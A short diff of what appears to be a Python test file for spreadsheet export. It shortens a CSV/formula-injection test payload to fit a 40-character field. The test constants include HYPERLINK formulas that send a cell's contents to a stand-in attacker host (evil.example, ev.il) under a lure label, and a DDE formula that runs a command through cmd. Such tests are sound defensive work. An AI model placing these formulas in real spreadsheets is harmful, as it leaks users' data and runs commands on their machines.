@@ -10,7 +10,8 @@ import pytest
 from defusedxml import ElementTree
 from openpyxl import Workbook, load_workbook
 
-LINK = '=HYPERLINK("http://evil.example/?d="&A2,"請求書を確認する")'
+# Short enough for the tightest field it is typed into (a project number: 40 characters).
+LINK = '=HYPERLINK("http://ev.il/?"&A2,"確認")'
 DDE = "=cmd|' /C calc'!A0"
 SHEET_NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
 
